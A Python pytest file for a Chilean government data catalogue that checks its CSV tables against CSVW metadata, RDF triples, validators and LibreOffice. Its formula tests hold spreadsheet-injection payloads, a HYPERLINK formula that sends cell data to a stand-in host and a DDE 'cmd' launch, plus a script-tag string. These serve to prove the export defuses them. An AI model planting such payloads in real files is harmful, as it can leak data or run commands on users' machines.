"""The tables: what the graph says, safe in a spreadsheet, and described by CSVW."""

import csv
import io
import json
import re
import shutil
import subprocess
import warnings
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urljoin

import pytest
from csvw import CSVW
from hypothesis import given
from hypothesis import strategies as st
from pyoxigraph import Literal, NamedNode, Triple
from uritemplate import URITemplate

from fichero import context, dataset
from fichero.describing.describe import Description, Node
from fichero.formats import csvw, tables
from fichero.formats.tables import TABLES, Table
from fichero.settings import Settings
from tests.catalogue.conftest import Built, build, build_services
from tests.conftest import Seed

XSD = "http://www.w3.org/2001/XMLSchema#"
BASE = "https://w3id.org/fichero/"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """Give a release."""
    return build(tmp_path_factory.mktemp("tables"))


def rows(data: bytes) -> list[dict[str, str]]:
    """Read a table as Python does."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def hostile(seed: Seed, text: str) -> Description:
    """Give the first form with another text for its first objective."""
    record = json.loads(json.dumps(seed.description.record))
    record["objective"][0]["text"]["es"] = text
    return Description(record, seed.description.statements, seed.description.shared)


def written(description: Description, nodes: tuple[Node, ...] = ()) -> dict[str, bytes]:
    """Write the tables of a form."""
    rows = tables.of_form(description)
    written = tables.of_all(lambda name: [rows[name]], (*nodes, *description.shared))
    return {path: b"".join(contents) for path, contents in written}


# ── What stands in them ──────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_a_table_is_rfc_4180_with_a_mark(table: Table, built: Built) -> None:
    """It begins with the byte order mark, its lines end in CR LF, and all rows are as long."""
    data = built.files[table.path]
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.count("\n") == text.count("\r\n") == len(rows(data)) + 1
    assert text.endswith("\r\n")
    reader = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert {len(row) for row in reader} == {len(table.columns)}


def test_there_is_a_row_for_each_thing(built: Built) -> None:
    """Organisations, forms, norms, objectives, areas and citations: all of the registry too."""
    counts = {table.name: len(rows(built.files[table.path])) for table in TABLES}
    known = built.workshop.registry
    assert counts == {
        "organismos": len(known.organisations),
        "fichas": 1,
        "objetivos": 8,
        "ambitos": 7,
        "bases-legales": 2,
        # Only the forms of services have these.
        "objetivos-relevantes": 0,
        "productos": 0,
        "subproductos": 0,
        "clientes": 0,
        "presupuestos": 0,
        "normas": len(known.norms),
    }


def cells(table: Table, data: bytes, metadata: dict[str, Any]) -> Iterator[Triple]:
    """Make the triples of a table, as CSVW says (https://www.w3.org/TR/csv2rdf/)."""
    (schema,) = [
        each["tableSchema"] for each in metadata["tables"] if each["url"] == f"{table.name}.csv"
    ]
    for row in rows(data):
        for column in schema["columns"]:
            cell = row[column["name"]]
            if not cell or column.get("suppressOutput"):
                continue
            about = urljoin(BASE, _filled(column.get("aboutUrl", schema["aboutUrl"]), row))
            separator = column.get("separator")
            for value in cell.split(separator) if separator else [cell]:
                yield Triple(
                    NamedNode(about),
                    NamedNode(column["propertyUrl"]),
                    _value(column, value, {**row, column["name"]: value}),
                )


def _filled(template: str, row: Mapping[str, Any]) -> str:
    return URITemplate(template).expand(**row)


def _value(column: dict[str, Any], value: str, row: dict[str, str]) -> NamedNode | Literal:
    if "valueUrl" in column:
        return NamedNode(_filled(column["valueUrl"], row))
    if "lang" in column:
        return Literal(tables.restore(value), language=column["lang"])
    return Literal(value, datatype=NamedNode(XSD + column["datatype"]))


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_a_table_says_what_the_graph_says(table: Table, built: Built) -> None:
    """Each cell, by its column's meaning in CSVW, is a triple of the dataset."""
    metadata = json.loads(built.files[csvw.PATH])
    found = set(cells(table, built.files[table.path], metadata))
    assert bool(found) == bool(rows(built.files[table.path]))
    assert found <= set(built.triples("dataset.nq"))


def test_everything_a_form_states_is_in_a_table(built: Built) -> None:
    """No statement of the form's graph is lost, but for what only links its parts together."""
    metadata = json.loads(built.files[csvw.PATH])
    found = {
        triple for table in TABLES for triple in cells(table, built.files[table.path], metadata)
    }
    stated = {
        triple
        for graph in dataset.whole(built.forms, built.workshop).fichas
        for triple in graph.triples
    }
    lost = {triple.predicate.value.rpartition("#")[2] for triple in stated - found}
    # The title in English; and types and links, which the tables themselves are.
    assert lost == {
        "actionArea",
        "http://purl.org/dc/terms/title",
        "legalBasis",
        "mission",
        "objective",
        "type",
    }


# ── Formulas ─────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://ejemplo.cl?"&A1,"clic")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "'=1",
    ],
)
def test_a_formula_is_defused(text: str, seed: Seed) -> None:
    """What a spreadsheet would run has an apostrophe before it, and nothing is lost."""
    (row, *_) = rows(written(hostile(seed, text))["csv/objetivos.csv"])
    assert row["texto"] == f"'{text}"
    assert tables.restore(row["texto"]) == text


@given(st.text())
def test_no_cell_begins_a_formula_and_every_text_comes_back(text: str) -> None:
    """Whatever the text is, its cell is harmless and leads back to it."""
    cell = tables.defuse(text)
    assert not re.match("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell)
    assert tables.restore(cell) == text


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_any_text_stays_in_its_cell(text: str) -> None:
    """Quotation marks, commas and line breaks are read back by another reader of CSV."""
    table = Table("x", {}, (tables.Column("a", "a", "@id"), tables.Column("b", "b", "text")))
    node = {"id": "x", "text": {"es": text}}
    data = b"a,b\r\n" + tables._csv(table, [node])  # noqa: SLF001 (a table of one's own has no other way in)
    assert [tables.restore(row["b"]) for row in rows(data)] == [text]


def test_hostile_texts_are_text_in_every_table(seed: Seed) -> None:
    """Markup, quotation marks, long words and directions stay as they are."""
    for text in ("<script>alert(1)</script>", '"a","b"', "x" * 10_000, "\u202eabc", "a;b\tc"):
        (row, *_) = rows(written(hostile(seed, text))["csv/objetivos.csv"])
        assert row["texto"] == text


def test_what_is_known_of_a_norm_is_put_together(seed: Seed) -> None:
    """A norm that a form cites and the registry knows has one row, with all that is known."""
    iri = seed.description.record["legalBasis"][0]["citesNorm"]
    node = {"id": iri, "type": "LegalNorm", "title": {"es": "Título"}, "leychileCode": "9"}
    bare = [{**n} for n in seed.description.shared]
    for each in bare:
        if each["id"] == iri:
            del each["title"]
    description = Description(seed.description.record, (), tuple(bare))
    found = [
        row for row in rows(written(description, (node,))["csv/normas.csv"]) if row["id"] == iri
    ]
    assert [(row["titulo"], row["numero"], row["codigo_leychile"]) for row in found] == [
        ("Título", "19032", "9")
    ]


def accepted(path: Path) -> bool:
    """Ask a validator of CSVW, which warns, raises or just says no."""
    with warnings.catch_warnings(record=True) as found:
        warnings.simplefilter("always")
        try:
            judge = CSVW(str(path), md_url=str(path.parent / "csv-metadata.json"), validate=True)
            valid = bool(judge.is_valid)
        except ValueError:
            return False
    return valid and not found


# ── Other programs ───────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_a_validator_of_csvw_finds_nothing(table: Table, built: Built) -> None:
    """Headers, datatypes, keys and foreign keys are as the metadata say."""
    assert accepted(built.folder / "csv" / f"{table.name}.csv")


@pytest.mark.parametrize(
    ("table", "old", "new"),
    [
        ("objetivos", b"2019-2022,1,", b"2019-2022,uno,"),
        ("objetivos", b"numero", b"cuenta"),
        ("normas", b"1991-02-04", b"1991-02-31"),
    ],
)
def test_the_validator_of_csvw_finds_what_is_wrong(
    table: str, old: bytes, new: bytes, built: Built, tmp_path: Path
) -> None:
    """A wrong number, header or date does not pass, so that passing means something."""
    folder = tmp_path / "csv"
    shutil.copytree(built.folder / "csv", folder)
    path = folder / f"{table}.csv"
    path.write_bytes(path.read_bytes().replace(old, new))
    assert path.read_bytes() != (built.folder / "csv" / path.name).read_bytes()
    assert not accepted(path)


def test_a_spreadsheet_opens_the_tables(built: Built, seed: Seed, tmp_path: Path) -> None:
    """LibreOffice reads accents and columns, and runs no formula."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("apt-get install libreoffice-calc-nogui")
    formula = "=1+1"
    source = tmp_path / "objetivos.csv"
    source.write_bytes(written(hostile(seed, formula))["csv/objetivos.csv"])
    shutil.copy(built.folder / "csv" / "fichas.csv", tmp_path)
    subprocess.run(
        [
            office,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--infilter=CSV:44,34,76",  # commas, quotation marks, UTF-8: what its dialogue proposes
            "--convert-to",
            "fods",
            "--outdir",
            tmp_path / "out",
            source,
            tmp_path / "fichas.csv",
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = (tmp_path / "out" / "objetivos.fods").read_text(encoding="utf-8")
    assert "table:formula" not in text
    assert "'=1+1" in text.replace("&apos;", "'")
    forms = (tmp_path / "out" / "fichas.fods").read_text(encoding="utf-8")
    assert "Ministerio Secretaría General de Gobierno" in forms
    assert "\ufeff" not in forms


def test_the_metadata_follow_the_settings() -> None:
    """Base IRI, licence and publisher are those of the publisher."""
    settings = Settings(base_iri="https://datos.ejemplo.cl/", licence="https://ejemplo.cl/licencia")
    metadata = json.loads(csvw.write(settings, context.load()))
    assert metadata["dc:license"] == {"@id": "https://ejemplo.cl/licencia"}
    (forms,) = [each for each in metadata["tables"] if each["url"] == "fichas.csv"]
    columns = {each["name"]: each for each in forms["tableSchema"]["columns"]}
    assert columns["periodo"]["valueUrl"] == "https://datos.ejemplo.cl/id/periodo/{periodo}"
    assert columns["inicio"]["aboutUrl"] == "https://datos.ejemplo.cl/id/periodo/{periodo}"


# ── Forms of services ────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """Give a release with the form of a service, and that of its ministry."""
    return build_services(tmp_path_factory.mktemp("service"))


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_a_table_of_a_service_says_what_the_graph_says(table: Table, service: Built) -> None:
    """Products, beneficiaries and budgets too: each cell is a triple, and CSVW is content."""
    metadata = json.loads(service.files[csvw.PATH])
    found = set(cells(table, service.files[table.path], metadata))
    assert found
    assert found <= set(service.triples("dataset.nq"))
    assert accepted(service.folder / "csv" / f"{table.name}.csv")
